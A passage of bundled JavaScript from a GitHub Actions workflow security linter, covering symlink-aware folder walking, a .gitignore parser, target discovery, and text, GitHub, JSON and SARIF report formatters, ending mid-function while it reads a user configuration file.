    for (const entry of entries) {
      const path = (0, import_node_path3.join)(dir, entry.name);
      if (entry.isSymbolicLink()) {
        let target;
        let isDirectory;
        let isFile2;
        try {
          target = (0, import_node_fs3.realpathSync)(path);
          const stats = (0, import_node_fs3.statSync)(target);
          isDirectory = stats.isDirectory();
          isFile2 = stats.isFile();
        } catch {
          continue;
        }
        if (options.ignore?.(path, isDirectory)) continue;
        if (isDirectory) {
          if (SKIPPED_DIRECTORIES.has(entry.name)) continue;
          if (!isInside(realRoot, target)) result.skipped.push(path);
          else if (depth < maxDepth) linked.push({ path, depth: depth + 1 });
        } else if (isFile2 && options.accept(path)) {
          if (!isInside(realRoot, target)) result.skipped.push(path);
          else linkedFiles.push({ path, real: target });
        }
      } else if (entry.isDirectory()) {
        if (!SKIPPED_DIRECTORIES.has(entry.name) && depth < maxDepth && !options.ignore?.(path, true))
          subdirectories.push({ path, depth: depth + 1 });
      } else if (entry.isFile() && options.accept(path) && !options.ignore?.(path, false)) {
        if (!addFile(path, (0, import_node_path3.join)(real, entry.name))) return result;
      }
    }
    subdirectories.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0).reverse();
    stack.push(...subdirectories);
  }
  for (const file of linkedFiles) if (!addFile(file.path, file.real)) break;
  return result;
}

// server/src/cli/gitignore.ts
var import_node_fs4 = require("node:fs");
var import_node_path4 = require("node:path");
var MAX_GITIGNORE_BYTES = 256 * 1024;
var SLASH = 47;
var BACKSLASH = 92;
function parseGitignore(text) {
  const patterns2 = [];
  let start = text.charCodeAt(0) === 65279 ? 1 : 0;
  while (start <= text.length) {
    let end = text.indexOf("\n", start);
    if (end === -1) end = text.length;
    let line = text.slice(start, end);
    start = end + 1;
    if (line.endsWith("\r")) line = line.slice(0, -1);
    if (line === "" || line.startsWith("#")) continue;
    line = trimTrailingSpaces(line);
    const pattern = parsePattern(line);
    if (pattern) patterns2.push(pattern);
    if (end === text.length) break;
  }
  return patterns2;
}
function trimTrailingSpaces(line) {
  let lastSpace = -1;
  for (let i = 0; i < line.length; i++) {
    const char = line[i];
    if (char === " ") {
      if (lastSpace === -1) lastSpace = i;
      continue;
    }
    if (char === "\\") {
      i++;
      if (i >= line.length) return line;
    }
    lastSpace = -1;
  }
  return lastSpace === -1 ? line : line.slice(0, lastSpace);
}
function parsePattern(line) {
  let body = line;
  const negated = body.startsWith("!");
  if (negated) body = body.slice(1);
  const directoryOnly = body.endsWith("/");
  if (directoryOnly) body = body.slice(0, -1);
  if (body === "") return null;
  const basename3 = !body.includes("/");
  if (body.startsWith("/")) body = body.slice(1);
  const parts = basename3 ? [body] : body.split("/");
  const segments = parts.map(
    (part) => part === "**" && !basename3 ? { kind: "globstar" } : { kind: "glob", tokens: tokenize(part) }
  );
  if (segments.length > 1 && segments[segments.length - 1].kind === "globstar") segments.splice(segments.length - 1, 0, { kind: "one" });
  return { source: line, negated, directoryOnly, basename: basename3, segments };
}
function tokenize(glob) {
  const tokens = [];
  for (let i = 0; i < glob.length; i++) {
    const code = glob.charCodeAt(i);
    if (code === 42) {
      if (tokens.length === 0 || tokens[tokens.length - 1].kind !== "star") tokens.push({ kind: "star" });
    } else if (code === 63) {
      tokens.push({ kind: "any" });
    } else if (code === BACKSLASH) {
      if (i + 1 >= glob.length) return [{ kind: "never" }];
      tokens.push({ kind: "literal", code: glob.charCodeAt(++i) });
    } else if (code === 91) {
      const set2 = parseSet(glob, i);
      if (!set2) return [{ kind: "never" }];
      tokens.push(set2.token);
      i = set2.end;
    } else {
      tokens.push({ kind: "literal", code });
    }
  }
  return tokens;
}
var CLASSES = {
  alnum: (c) => isDigit2(c) || isAlpha(c),
  alpha: (c) => isAlpha(c),
  blank: (c) => c === 32 || c === 9,
  cntrl: (c) => c < 32 || c === 127,
  digit: (c) => isDigit2(c),
  graph: (c) => c > 32 && c < 127,
  lower: (c) => c >= 97 && c <= 122,
  print: (c) => c >= 32 && c < 127,
  punct: (c) => c > 32 && c < 127 && !isDigit2(c) && !isAlpha(c),
  space: (c) => c === 32 || c >= 9 && c <= 13,
  upper: (c) => c >= 65 && c <= 90,
  xdigit: (c) => isDigit2(c) || c >= 65 && c <= 70 || c >= 97 && c <= 102
};
function isDigit2(c) {
  return c >= 48 && c <= 57;
}
function isAlpha(c) {
  return c >= 65 && c <= 90 || c >= 97 && c <= 122;
}
function parseSet(glob, open) {
  let i = open + 1;
  let negated = false;
  if (glob[i] === "!" || glob[i] === "^") {
    negated = true;
    i++;
  }
  const singles = /* @__PURE__ */ new Set();
  const ranges = [];
  const classes = [];
  let first = true;
  for (; i < glob.length; i++) {
    let code = glob.charCodeAt(i);
    if (code === 93 && !first) {
      const test = (c) => singles.has(c) || ranges.some(([low, high]) => c >= low && c <= high) || classes.some((member) => member(c));
      return { token: { kind: "set", negated, test }, end: i };
    }
    first = false;
    if (code === 91 && glob[i + 1] === ":") {
      const close = glob.indexOf(":]", i + 2);
      if (close === -1) return null;
      const member = CLASSES[glob.slice(i + 2, close)];
      if (!member) return null;
      classes.push(member);
      i = close + 1;
      continue;
    }
    if (code === BACKSLASH) {
      if (i + 1 >= glob.length) return null;
      code = glob.charCodeAt(++i);
    }
    if (glob[i + 1] === "-" && i + 2 < glob.length && glob[i + 2] !== "]") {
      let high = glob.charCodeAt(i + 2);
      i += 2;
      if (high === BACKSLASH) {
        if (i + 1 >= glob.length) return null;
        high = glob.charCodeAt(++i);
      }
      ranges.push([code, high]);
      continue;
    }
    singles.add(code);
  }
  return null;
}
function tokenMatches(token, code) {
  switch (token.kind) {
    case "literal":
      return token.code === code;
    case "any":
      return code !== SLASH;
    case "set":
      return code !== SLASH && token.test(code) !== token.negated;
    default:
      return false;
  }
}
function matchSequence(items, isStar, units, unitAt, matches2) {
  const length = typeof units === "number" ? units : units.length;
  let item = 0;
  let unit = 0;
  let starItem = -1;
  let starUnit = 0;
  while (unit < length) {
    if (item < items.length && isStar(items[item])) {
      starItem = item++;
      starUnit = unit;
    } else if (item < items.length && matches2(items[item], unitAt(unit))) {
      item++;
      unit++;
    } else if (starItem >= 0) {
      item = starItem + 1;
      unit = ++starUnit;
    } else {
      return false;
    }
  }
  while (item < items.length && isStar(items[item])) item++;
  return item === items.length;
}
function globMatches(tokens, name) {
  return matchSequence(
    tokens,
    (token) => token.kind === "star",
    name.length,
    (index) => name.charCodeAt(index),
    tokenMatches
  );
}
function segmentMatches(segment, name) {
  return segment.kind === "one" || segment.kind === "glob" && globMatches(segment.tokens, name);
}
function patternMatches(pattern, path, isDirectory) {
  if (pattern.directoryOnly && !isDirectory) return false;
  if (pattern.basename) {
    const slash = path.lastIndexOf("/");
    const segment = pattern.segments[0];
    return segment.kind === "glob" && globMatches(segment.tokens, slash === -1 ? path : path.slice(slash + 1));
  }
  const names = path.split("/");
  return matchSequence(
    pattern.segments,
    (segment) => segment.kind === "globstar",
    names,
    (index) => names[index],
    segmentMatches
  );
}
function lastMatch(files, path, isDirectory) {
  let decision;
  for (const file of files) {
    if (file.folder !== "" && !path.startsWith(`${file.folder}/`)) continue;
    const inner = file.folder === "" ? path : path.slice(file.folder.length + 1);
    for (const pattern of file.patterns) if (patternMatches(pattern, inner, isDirectory)) decision = !pattern.negated;
  }
  return decision;
}
var GitignoreCollector = class {
  /**
   * @param root the scanned folder as given (paths passed in are under it)
   * @param realRoot its real path: a `.gitignore` is read only when its real path is inside it
   */
  constructor(root, realRoot) {
    this.root = root;
    this.realRoot = realRoot;
  }
  root;
  realRoot;
  byFolder = /* @__PURE__ */ new Map();
  ignores(path, isDirectory) {
    const rel = (0, import_node_path4.relative)(this.root, path);
    if (rel === "" || rel.startsWith("..")) return false;
    const parts = import_node_path4.sep === "/" ? rel.split("/") : rel.split(import_node_path4.sep);
    const files = [];
    for (let depth = 0; depth < parts.length; depth++) {
      const file = this.fileOf(parts.slice(0, depth).join("/"));
      if (file) files.push(file);
    }
    return lastMatch(files, parts.join("/"), isDirectory) === true;
  }
  fileOf(folder) {
    let file = this.byFolder.get(folder);
    if (file === void 0) {
      const text = readSmallFile(this.realRoot, (0, import_node_path4.join)(this.root, ...folder.split("/").filter(Boolean), ".gitignore"));
      const patterns2 = text === null ? [] : parseGitignore(text);
      file = patterns2.length === 0 ? null : { folder, patterns: patterns2 };
      this.byFolder.set(folder, file);
    }
    return file;
  }
};
function readSmallFile(root, path) {
  let opened;
  try {
    opened = openWithin(root, path);
  } catch {
    return null;
  }
  try {
    const buffer = Buffer.alloc(Math.min(MAX_GITIGNORE_BYTES, opened.stats.size));
    let read = 0;
    while (read < buffer.length) {
      const count = (0, import_node_fs4.readSync)(opened.fd, buffer, read, buffer.length - read, read);
      if (count === 0) break;
      read += count;
    }
    return buffer.subarray(0, read).toString("utf8");
  } catch {
    return null;
  } finally {
    (0, import_node_fs4.closeSync)(opened.fd);
  }
}

// server/src/cli/discover.ts
var STDIN_PATH = "-";
var STDIN_DISPLAY = "<stdin>";
function displayPath(absolute, cwd) {
  if (absolute === STDIN_PATH) return STDIN_DISPLAY;
  const rel = (0, import_node_path5.relative)(cwd, absolute);
  if (rel === "") return ".";
  if (rel.startsWith("..") || (0, import_node_path5.isAbsolute)(rel)) return absolute;
  return import_node_path5.sep === "/" ? rel : rel.split(import_node_path5.sep).join("/");
}
function collectedKind(relativePath) {
  const parts = relativePath.split("/");
  for (let index = 0; index < parts.length - 1; index++) if (SKIPPED_DIRECTORIES.has(parts[index])) return null;
  const kind = classifyPath(relativePath);
  return kind === "unknown" ? null : kind;
}
function discover(paths, cwd, options = {}) {
  const errors = [];
  const skipped = [];
  const found = /* @__PURE__ */ new Map();
  const add = (path, kind, explicit, root, rootPath, kindFromContent = false) => {
    const existing = found.get(path);
    if (existing && (existing.explicit || !explicit)) return;
    const target = { path, displayPath: displayPath(path, cwd), kind, explicit, root, rootPath };
    if (kindFromContent) target.kindFromContent = true;
    found.set(path, target);
  };
  const visited = /* @__PURE__ */ new Set();
  let ignored = 0;
  for (const given of paths.length === 0 ? ["."] : paths) {
    if (given === STDIN_PATH) {
      add(STDIN_PATH, "workflow", true, "", "");
      continue;
    }
    const absolute = (0, import_node_path5.resolve)(cwd, given);
    let stats;
    try {
      stats = (0, import_node_fs5.statSync)(absolute);
    } catch (error) {
      errors.push(`${given}: ${describeError(error)}`);
      continue;
    }
    if (stats.isDirectory()) {
      let ignore;
      const realRoot = realPathOrNull(absolute);
      if ((options.collect ?? "default") === "default" && realRoot !== null) {
        const gitignore = new GitignoreCollector(absolute, realRoot);
        ignore = (path, isDirectory) => {
          const ignores = gitignore.ignores(path, isDirectory);
          if (ignores) ignored++;
          return ignores;
        };
      }
      const walked = walkFolder(absolute, { accept: (file) => classifyPath(file) !== "unknown", visited, ignore });
      for (const { path, error } of walked.errors) errors.push(`${displayPath(path, cwd)}: ${describeError(error)}`);
      for (const path of walked.skipped) skipped.push(`${displayPath(path, cwd)}: ${OUTSIDE_ROOT}`);
      for (const file of walked.files) add(file, classifyPath(file), false, walked.realRoot, absolute);
    } else if (stats.isFile()) {
      const rootPath = explicitFileRoot(absolute);
      let root;
      let real;
      try {
        root = (0, import_node_fs5.realpathSync)(rootPath);
        real = (0, import_node_fs5.realpathSync)(absolute);
      } catch (error) {
        errors.push(`${given}: ${describeError(error)}`);
        continue;
      }
      if (!isInside(root, real)) {
        errors.push(`${given}: not read: ${OUTSIDE_ROOT} (${displayPath(root, cwd)})`);
        continue;
      }
      const kind = explicitKind(absolute);
      add(absolute, kind === "unknown" ? "workflow" : kind, true, root, rootPath, kind === "unknown");
    } else {
      errors.push(`${given}: not a regular file or folder`);
    }
  }
  const targets3 = [...found.values()].sort((a, b) => compareStrings(a.displayPath, b.displayPath));
  return { targets: targets3, errors, skipped, ignored };
}
function explicitKind(path) {
  const kind = classifyPath(path);
  if (kind !== "unknown") return kind;
  return /^dependabot\.ya?ml$/i.test((0, import_node_path5.basename)(path)) ? "dependabot" : "unknown";
}
function kindOfContent(text) {
  let root;
  try {
    const doc = parseDocument(text, { prettyErrors: false, uniqueKeys: false });
    if (doc.errors.length > 0) return { kind: "workflow" };
    root = doc.contents;
  } catch {
    return { kind: "workflow" };
  }
  if (!isMap(root) || root.items.length === 0) return { kind: "workflow" };
  const keys = new Set(root.items.map((pair) => isScalar(pair.key) ? String(pair.key.value) : ""));
  if (keys.has("jobs") || keys.has("on") || keys.has("true")) return { kind: "workflow" };
  if (keys.has("runs")) return { kind: "action" };
  if (keys.has("updates")) return { kind: "dependabot" };
  const first = root.items[0].key;
  const range = first?.range;
  return { kind: null, span: range ? { start: range[0], end: range[1] } : { start: 0, end: 0 } };
}
function explicitFileRoot(absolute) {
  const parts = absolute.split(import_node_path5.sep);
  const dotGithub = parts.lastIndexOf(".github", parts.length - 2);
  const kept = dotGithub >= 0 ? parts.slice(0, dotGithub) : parts.slice(0, -1);
  const root = kept.join(import_node_path5.sep);
  return root === "" || /^[A-Za-z]:$/.test(root) ? root + import_node_path5.sep : root;
}
function describeError(error) {
  const code = error?.code;
  switch (code) {
    case "ENOENT":
      return "no such file or folder";
    case "EACCES":
    case "EPERM":
      return "permission denied";
    case "EISDIR":
      return "is a folder";
    case "ELOOP":
      return "too many levels of symbolic links";
    default:
      return error instanceof Error ? error.message : String(error);
  }
}
function compareStrings(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}

// shared/src/rule-docs.ts
var DOCS_BASE_URL = "https://github.com/actions-warden/actions-warden/blob/main/docs/rules";
function ruleDocsUrl(ruleId) {
  return `${DOCS_BASE_URL}/${ruleId}.md`;
}

// server/src/cli/results.ts
var import_node_fs6 = require("node:fs");
var MAX_READ_BYTES = 3 * MAX_ANALYSED_LENGTH;
var decoder = new TextDecoder("utf-8");
function decode(bytes) {
  return decoder.decode(bytes);
}
function readTarget(path, root) {
  try {
    const { fd, real, stats } = openWithin(root, path);
    try {
      if (stats.size > MAX_READ_BYTES) {
        const head = Buffer.alloc(4096);
        const read = (0, import_node_fs6.readSync)(fd, head, 0, head.length, 0);
        return { ok: true, tooLarge: stats.size, firstLine: decode(head.subarray(0, read)).split(/\r?\n/)[0] };
      }
      const bytes = (0, import_node_fs6.readFileSync)(fd);
      return { ok: true, text: decode(bytes), file: { real, bytes, stats } };
    } finally {
      (0, import_node_fs6.closeSync)(fd);
    }
  } catch (error) {
    return { ok: false, error: error instanceof RefusedError ? `not read: ${error.message}` : describeError(error) };
  }
}
function readTargetOf(target) {
  if (!target.virtual) return readTarget(target.path, target.root);
  const content = target.virtual.content;
  return "text" in content ? { ok: true, text: content.text } : { ok: true, tooLarge: content.tooLarge, firstLine: "" };
}
var onlineSnapshot;
function useOnlineSnapshot(snapshot) {
  onlineSnapshot = snapshot;
}
function analyzeText(path, kind, text, options, parsedAs = path) {
  try {
    const file = parseFile(parsedAs, kind, text);
    if (onlineSnapshot) attachSnapshot(file, onlineSnapshot);
    return { path, kind, findings: analyze(file, options), lines: file.lines };
  } catch (error) {
    const lines = new LineIndex(text);
    const message = `Analysis failed on this file: ${error instanceof Error ? error.message : String(error)}`;
    return { path, kind, findings: [syntheticFinding(INTERNAL_ERROR_RULE, "low", message, lines, 0)], lines };
  }
}
function notAnActionsFileResult(path, text, span) {
  const lines = new LineIndex(text);
  const message = "This file is not a workflow, an action or a Dependabot file, so nothing in it was analysed: expected `on:` and `jobs:` (a workflow), `runs:` (action metadata, action.yml) or `version:` and `updates:` (dependabot.yml) at the top level.";
  const finding = {
    ruleId: SYNTAX_ERROR_RULE,
    severity: "high",
    confidence: "high",
    persona: "regular",
    message,
    span,
    range: lines.range(span),
    related: [],
    fixes: []
  };
  return { path, kind: "workflow", findings: [finding], lines };
}
function tooLargeResult(path, kind, size, firstLine2) {
  const lines = new LineIndex(firstLine2);
  const message = `File is ${Math.round(size / 1024)} KiB; files over ${MAX_ANALYSED_LENGTH / 1024 / 1024} MiB are not analysed.`;
  return { path, kind, findings: [syntheticFinding(SYNTAX_ERROR_RULE, "high", message, lines, firstLine2.length)], lines };
}
function syntheticFinding(ruleId, severity, message, lines, end) {
  const span = { start: 0, end };
  return { ruleId, severity, confidence: "high", persona: "regular", message, span, range: lines.range(span), related: [], fixes: [] };
}
function analyzeTarget(target, read, options) {
  if (!read.ok) return { error: `${target.displayPath}: ${read.error}` };
  const result = "tooLarge" in read ? tooLargeResult(target.displayPath, target.kind, read.tooLarge, read.firstLine) : analyzeText(target.displayPath, target.kind, read.text, options, target.virtual?.repoPath);
  if (target.virtual) {
    result.origin = target.virtual.origin;
    result.repoPath = target.virtual.repoPath;
  }
  return result;
}
function summarize(results) {
  const bySeverity = Object.fromEntries(SEVERITIES.map((severity) => [severity, 0]));
  let findings = 0;
  for (const result of results) {
    for (const finding of result.findings) {
      bySeverity[finding.severity]++;
      findings++;
    }
  }
  return { files: results.length, findings, bySeverity };
}
function sortResults(results) {
  for (const result of results) {
    result.findings.sort(compareFindings);
    result.suppressed?.sort(compareFindings);
  }
  return results.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
}

// server/src/cli/format-text.ts
var FIX_MARKS = { safe: "[fix]", unsafe: "[fix: --fix=all]" };
function hyperlink(url, text) {
  return `\x1B]8;;${url}\x1B\\${text}\x1B]8;;\x1B\\`;
}
var RESET = "\x1B[0m";
var BOLD = "\x1B[1m";
var DIM = "\x1B[2m";
var SEVERITY_COLORS = {
  high: "\x1B[31m",
  // red
  medium: "\x1B[33m",
  // yellow
  low: "\x1B[36m",
  // cyan
  informational: "\x1B[2m"
  // dim
};
function formatText(results, options) {
  const paint = (code, text) => options.color ? `${code}${text}${RESET}` : text;
  const out = [];
  const linked = /* @__PURE__ */ new Set();
  for (const result of results) {
    for (const finding of result.findings) {
      const { line, character } = finding.range.start;
      const location = paint(BOLD, `${pathAtLineStart(result.path)}:${line + 1}:${character + 1}:`);
      const message = joinLines(finding.message);
      const url = ruleDocsUrl(finding.ruleId);
      const ruleId = options.hyperlinks ? hyperlink(url, paint(DIM, finding.ruleId)) : paint(DIM, finding.ruleId);
      const fixability = result.fixability?.get(finding);
      let tail = fixability ? ` ${paint(BOLD, FIX_MARKS[fixability])}` : "";
      if (!options.hyperlinks && !linked.has(finding.ruleId)) {
        linked.add(finding.ruleId);
        tail += ` ${paint(DIM, `(docs: ${url})`)}`;
      }
      out.push(`${location} ${paint(SEVERITY_COLORS[finding.severity], finding.severity)} ${ruleId} ${escapeText(message)}${tail}`);
      if (options.codeFrame)
        out.push(
          ...codeFrame(
            result,
            finding,
            (text) => paint(SEVERITY_COLORS[finding.severity], text),
            (text) => paint(DIM, text)
          )
        );
    }
  }
  if (options.summary !== false) {
    const suppressed = results.reduce((sum, result) => sum + (result.suppressed?.length ?? 0), 0);
    out.push(
      summaryLine(results) + (suppressed > 0 ? ` (${suppressed} suppressed by ignore comments or the configuration: --no-ignores shows them)` : "")
    );
    const fixable = fixableLine(results);
    if (fixable) out.push(fixable);
  }
  return out.length === 0 ? "" : out.join("\n") + "\n";
}
function fixableLine(results) {
  let safe = 0;
  let unsafe = 0;
  for (const result of results) {
    for (const fixability of result.fixability?.values() ?? []) {
      if (fixability === "safe") safe++;
      else unsafe++;
    }
  }
  const review = "which also applies unsafe fixes: review the diff with --fix=all --dry-run";
  if (safe > 0 && unsafe > 0) return `${safe} fixable with --fix; ${unsafe} more with --fix=all, ${review}`;
  if (safe > 0) return `${safe} fixable with --fix`;
  if (unsafe > 0) return `${unsafe} fixable with --fix=all, ${review}`;
  return null;
}
function summaryLine(results) {
  const summary = summarize(results);
  const files = `${summary.files} ${summary.files === 1 ? "file" : "files"}`;
  if (summary.findings === 0) return `No findings in ${files}`;
  const counts = ["high", "medium", "low", "informational"].map((severity) => `${summary.bySeverity[severity]} ${severity}`).join(", ");
  return `${summary.findings} ${summary.findings === 1 ? "finding" : "findings"} (${counts}) in ${files}`;
}
var MAX_FRAME_LENGTH = 200;
function codeFrame(result, finding, mark, dim) {
  const { start, end } = finding.range;
  if (start.line >= result.lines.lineCount) return [];
  const text = result.lines.lineText(start.line);
  let cut = text.length;
  if (text.length > MAX_FRAME_LENGTH) {
    const code = text.charCodeAt(MAX_FRAME_LENGTH - 1);
    cut = code >= 55296 && code <= 56319 ? MAX_FRAME_LENGTH - 1 : MAX_FRAME_LENGTH;
  }
  const escaped = escapeTextWithColumns(text.slice(0, cut).replace(/\t/g, " "));
  const shown = cut < text.length ? escaped.text + "…" : escaped.text;
  const column = (character) => character <= cut ? escaped.columns[character] : shown.length;
  const from = column(Math.min(start.character, text.length));
  const to = end.line === start.line ? Math.max(from + 1, column(Math.min(end.character, text.length))) : Math.max(from + 1, shown.length);
  const gutter = String(start.line + 1);
  const pad = " ".repeat(gutter.length);
  return [`${dim(`${gutter} |`)} ${shown}`, `${dim(`${pad} |`)} ${" ".repeat(from)}${mark("^".repeat(to - from))}`];
}

// server/src/cli/format-github.ts
function annotationLevel(severity) {
  return severity === "high" ? "error" : severity === "informational" ? "notice" : "warning";
}
function escapeData(text) {
  return text.replace(/%/g, "%25").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
}
function escapeProperty(text) {
  return escapeData(text).replace(/:/g, "%3A").replace(/,/g, "%2C");
}
function formatGithub(results) {
  const out = [];
  for (const result of results) {
    for (const finding of result.findings) {
      const { start, end } = finding.range;
      const properties = [
        `file=${escapeText(escapeProperty(result.path))}`,
        `line=${start.line + 1}`,
        `col=${start.character + 1}`,
        `endLine=${end.line + 1}`,
        `endColumn=${end.character + 1}`,
        `title=${escapeProperty(`${finding.ruleId} (${finding.severity})`)}`
      ];
      out.push(`::${annotationLevel(finding.severity)} ${properties.join(",")}::${escapeText(escapeData(finding.message))}`);
    }
  }
  out.push(summaryLine(results));
  return out.join("\n") + "\n";
}

// server/src/cli/format-json.ts
var JSON_SCHEMA_VERSION = 1;
function jsonReport(results, options) {
  const findings = [];
  for (const result of results) {
    for (const finding of result.findings) {
      findings.push({
        path: result.path,
        ruleId: finding.ruleId,
        severity: finding.severity,
        confidence: finding.confidence,
        persona: finding.persona,
        message: finding.message,
        line: finding.range.start.line + 1,
        column: finding.range.start.character + 1,
        endLine: finding.range.end.line + 1,
        endColumn: finding.range.end.character + 1,
        range: finding.range,
        offset: { start: finding.span.start, end: finding.span.end },
        helpUri: ruleDocsUrl(finding.ruleId),
        related: finding.related.map((related2) => ({
          message: related2.message,
          line: related2.range.start.line + 1,
          column: related2.range.start.character + 1,
          range: related2.range
        })),
        fixes: finding.fixes.map((fix) => ({
          title: fix.title,
          safety: fix.safety,
          isPreferred: fix.isPreferred,
          edits: fix.edits.map((edit) => ({
            range: result.lines.range(edit.span),
            offset: { start: edit.span.start, end: edit.span.end },
            newText: edit.newText
          }))
        }))
      });
    }
  }
  return {
    schemaVersion: JSON_SCHEMA_VERSION,
    tool: { name: TOOL_NAME, version: VERSION },
    options: { persona: options.persona, minSeverity: options.minSeverity, offline: options.offline },
    online: options.online ?? false,
    files: results.map((result) => ({
      path: result.path,
      kind: result.kind,
      findings: result.findings.length,
      ...result.origin ? {
        repository: {
          url: result.origin.repositoryUrl,
          ref: result.origin.ref,
          commit: result.origin.commit,
          path: result.repoPath ?? result.path
        }
      } : {}
    })),
    findings,
    summary: summarize(results)
  };
}
function formatJson(results, options) {
  return escapeJsonOutput(JSON.stringify(jsonReport(results, options), null, 2)) + "\n";
}

// server/src/cli/format-sarif.ts
var import_node_crypto2 = require("node:crypto");

// server/src/cli/rule-meta.ts
function ruleMeta(id) {
  const rule = ruleById(id);
  if (rule) {
    return {
      id,
      title: rule.title,
      summary: rule.docs.summary,
      severity: rule.severity,
      helpUri: ruleDocsUrl(id),
      help: `${rule.docs.why}

**Fix:** ${rule.docs.fix}`
    };
  }
  const builtIn2 = builtInRule(id);
  if (builtIn2)
    return { id, title: builtIn2.title, summary: builtIn2.summary, severity: builtIn2.severity, helpUri: ruleDocsUrl(id), help: builtIn2.help };
  return { id, title: id, summary: id, severity: "medium", helpUri: ruleDocsUrl(id), help: "" };
}

// server/src/cli/format-sarif.ts
var SARIF_SCHEMA = "https://json.schemastore.org/sarif-2.1.0.json";
var INFORMATION_URI = "https://github.com/actions-warden/actions-warden";
var FINGERPRINT_KEY = "actionsWarden/v1";
var SECURITY_SEVERITY = { high: "8.0", medium: "5.5", low: "3.0", informational: "1.0" };
function sarifLevel(severity) {
  return severity === "high" ? "error" : severity === "medium" ? "warning" : "note";
}
function pathToUri(path) {
  if (path === "<stdin>") return "stdin";
  return path.replace(/\\/g, "/").split("/").map((segment) => encodeURIComponent(segment)).join("/");
}
function sarifReport(results, origins = []) {
  const local = results.filter((result) => !result.origin);
  const runs = [];
  if (local.length > 0 || origins.length === 0) runs.push(sarifRun(local));
  for (const origin of origins) {
    const run2 = sarifRun(results.filter((result) => result.origin?.label === origin.label));
    runs.push({
      ...run2,
      versionControlProvenance: [
        {
          repositoryUri: origin.repositoryUrl,
          revisionId: origin.commit,
          ...origin.ref !== origin.commit ? { branch: origin.ref } : {},
          mappedTo: { uriBaseId: "%SRCROOT%" }
        }
      ]
    });
  }
  return { $schema: SARIF_SCHEMA, version: "2.1.0", runs };
}
function sarifRun(results) {
  const ruleIds = [
    ...new Set(results.flatMap((result) => [...result.findings, ...result.suppressed ?? []].map((finding) => finding.ruleId)))
  ].sort();
  const ruleIndex = new Map(ruleIds.map((id, index) => [id, index]));
  const rules = ruleIds.map((id) => {
    const meta = ruleMeta(id);
    return {
      id,
      name: id.replace(/(^|-)([a-z0-9])/g, (_, _dash, letter) => letter.toUpperCase()),
      shortDescription: { text: meta.title },
      fullDescription: { text: meta.summary },
      helpUri: meta.helpUri,
      help: {
        text: `${meta.summary}

${meta.help}`.trim(),
        markdown: `${meta.summary}

${meta.help}

[Documentation](${meta.helpUri})`.trim()
      },
      defaultConfiguration: { level: sarifLevel(meta.severity) },
      properties: {
        "security-severity": SECURITY_SEVERITY[meta.severity],
        tags: ["security", "github-actions", "supply-chain"],
        precision: "high"
      }
    };
  });
  const sarifResults = [];
  for (const result of results) {
    const path = result.repoPath ?? result.path;
    const uri = pathToUri(path);
    const occurrences = /* @__PURE__ */ new Map();
    const suppressedOccurrences = /* @__PURE__ */ new Map();
    for (const finding of [...result.findings, ...result.suppressed ?? []]) {
      const { start, end } = finding.range;
      const lineText = result.lines.lineText(start.line).trim();
      const key = `${finding.ruleId}\0${path}\0${lineText}\0${result.lines.text.slice(finding.span.start, finding.span.end)}`;
      const suppression = isSuppressed(finding) ? finding.suppression : void 0;
      const counter = suppression ? suppressedOccurrences : occurrences;
      const occurrence = counter.get(key) ?? 0;
      counter.set(key, occurrence + 1);
      const fingerprint = (0, import_node_crypto2.createHash)("sha256").update(`${key}\0${occurrence}`).digest("hex").slice(0, 32);
      sarifResults.push({
        ruleId: finding.ruleId,
        ruleIndex: ruleIndex.get(finding.ruleId),
        level: sarifLevel(finding.severity),
        message: { text: finding.message },
        locations: [
          {
            physicalLocation: {
              artifactLocation: { uri, uriBaseId: "%SRCROOT%" },
              region: { startLine: start.line + 1, startColumn: start.character + 1, endLine: end.line + 1, endColumn: end.character + 1 }
            }
          }
        ],
        ...finding.related.length > 0 ? {
          relatedLocations: finding.related.map((related2, id) => ({
            id,
            message: { text: related2.message },
            physicalLocation: {
              artifactLocation: { uri, uriBaseId: "%SRCROOT%" },
              region: {
                startLine: related2.range.start.line + 1,
                startColumn: related2.range.start.character + 1,
                endLine: related2.range.end.line + 1,
                endColumn: related2.range.end.character + 1
              }
            }
          }))
        } : {},
        partialFingerprints: { [FINGERPRINT_KEY]: fingerprint },
        ...suppression ? {
          suppressions: [
            {
              kind: suppression.kind,
              status: "accepted",
              ...suppression.justification ? { justification: suppression.justification } : {}
            }
          ]
        } : {},
        properties: { severity: finding.severity, confidence: finding.confidence, persona: finding.persona }
      });
    }
  }
  return {
    tool: { driver: { name: TOOL_NAME, version: VERSION, semanticVersion: VERSION, informationUri: INFORMATION_URI, rules } },
    columnKind: "utf16CodeUnits",
    results: sarifResults
  };
}
function formatSarif(results, origins = []) {
  return escapeJsonOutput(JSON.stringify(sarifReport(results, origins), null, 2)) + "\n";
}

// server/src/cli/hosts.ts
var import_node_fs7 = require("node:fs");
var import_node_path6 = require("node:path");
function userConfigPath(env, platform = process.platform) {
  if (env.XDG_CONFIG_HOME) return (0, import_node_path6.join)(env.XDG_CONFIG_HOME, "actions-warden", "config.yml");
  if (platform === "win32" && env.APPDATA) return (0, import_node_path6.join)(env.APPDATA, "actions-warden", "config.yml");
  const home = env.HOME || (platform === "win32" ? env.USERPROFILE : void 0);
  return home ? (0, import_node_path6.join)(home, ".config", "actions-warden", "config.yml") : null;
}
function readUserConfig(path) {
  if (!path) return null;
  let text;
  try {
    text = (0, import_node_fs7.readFileSync)(path, "utf8");
  } catch (error) {
    if (error.code === "ENOENT" || error.code === "ENOTDIR") return null;
    return { path, problems: [`cannot be read: ${error.message}`] };
  }
  const config = { path, problems: [] };
  let doc;
  try {
    doc = parseDocument(text, { prettyErrors: false, uniqueKeys: true });
  } catch (error) {
    return { path, problems: [`is not valid YAML: ${String(error)}`] };
  }
  if (doc.errors.length > 0) return { path, problems: [`is not valid YAML: ${doc.errors[0].message.split("\n")[0]}`] };
  const root = doc.contents;
  if (root === null || isScalar(root) && (root.value === null || root.value === "")) return config;
  if (!isMap(root)) return { path, problems: ["must be a mapping (github: { server-url, api-url })"] };
  for (const pair of root.items) {
    const key = isScalar(pair.key) ? String(pair.key.value) : "";
    if (key !== "github") {
      config.problems.push(`\`${key}\` is not read from the user configuration (only github.server-url and github.api-url are)`);
      continue;
    }
    if (!isMap(pair.value)) {
      config.problems.push("`github` must be a mapping with server-url and/or api-url");
      continue;
    }
    for (const item of pair.value.items) {
      const sub = isScalar(item.key) ? String(item.key.value) : "";
